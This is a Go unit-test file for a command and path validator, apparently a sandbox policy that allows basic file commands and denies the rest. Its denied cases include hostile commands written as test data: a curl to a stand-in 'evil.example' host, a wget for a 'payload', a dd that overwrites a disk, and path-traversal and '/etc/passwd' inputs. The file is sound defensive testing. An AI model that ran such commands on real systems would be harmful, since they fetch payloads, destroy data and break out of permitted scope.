package policy

import (
	"testing"
)

func TestValidateCommand(t *testing.T) {
	tests := []struct {
		name    string
		command string
		wantErr bool
	}{
		{
			name:    "allowed mkdir",
			command: "mkdir css",
			wantErr: false,
		},
		{
			name:    "allowed echo with redirect",
			command: `echo "<h1>Hello</h1>" > index.html`,
			wantErr: false,
		},
		{
			name:    "allowed ls with flags",
			command: "ls -la",
			wantErr: false,
		},
		{
			name:    "allowed cat",
			command: "cat index.html",
			wantErr: false,
		},
		{
			name:    "denied curl regardless of arguments",
			command: "curl http://evil.example",
			wantErr: true,
		},
		{
			name:    "denied curl with harmless flags",
			command: "curl --help",
			wantErr: true,
		},
		{
			name:    "denied sudo",
			command: "sudo rm file",
			wantErr: true,
		},
		{
			name:    "denied wget",
			command: "wget http://example.com/payload",
			wantErr: true,
		},
		{
			name:    "denied dd",
			command: "dd if=/dev/zero of=/dev/sda",
			wantErr: true,
		},
		{
			name:    "denied systemctl",
			command: "systemctl stop nginx",
			wantErr: true,
		},
		{
			name:    "denied crontab",
			command: "crontab -e",
			wantErr: true,
		},
		{
			name:    "denied chmod",
			command: "chmod 777 index.html",
			wantErr: true,
		},
		{
			name:    "unknown command default-denied",
			command: "python3 server.py",
			wantErr: true,
		},
		{
			name:    "unknown node default-denied",
			command: "node index.js",
			wantErr: true,
		},
		{
			name:    "empty command",
			command: "",
			wantErr: true,
		},
		{
			name:    "whitespace only",
			command: "   ",
			wantErr: true,
		},
		{
			name:    "leading whitespace on allowed command",
			command: "  touch style.css",
			wantErr: false,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateCommand(tt.command)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateCommand(%q) error = %v, wantErr %v", tt.command, err, tt.wantErr)
			}
		})
	}
}

func TestValidatePath(t *testing.T) {
	tests := []struct {
		name    string
		path    string
		wantErr bool
	}{
		{
			name:    "simple file",
			path:    "index.html",
			wantErr: false,
		},
		{
			name:    "nested file",
			path:    "css/style.css",
			wantErr: false,
		},
		{
			name:    "current dir segment",
			path:    "./js/app.js",
			wantErr: false,
		},
		{
			name:    "internal dotdot that stays inside",
			path:    "a/b/../c.html",
			wantErr: false,
		},
		{
			name:    "plain dotdot",
			path:    "..",
			wantErr: true,
		},
		{
			name:    "leading traversal",
			path:    "../other-project/index.html",
			wantErr: true,
		},
		{
			name:    "traversal hidden behind segments",
			path:    "a/../../escape.html",
			wantErr: true,
		},
		{
			name:    "absolute path",
			path:    "/etc/passwd",
			wantErr: true,
		},
		{
			name:    "backslash absolute path",
			path:    `\windows\system32`,
			wantErr: true,
		},
		{
			name:    "empty path",
			path:    "",
			wantErr: true,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidatePath(tt.path)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidatePath(%q) error = %v, wantErr %v", tt.path, err, tt.wantErr)
			}
		})
	}
}
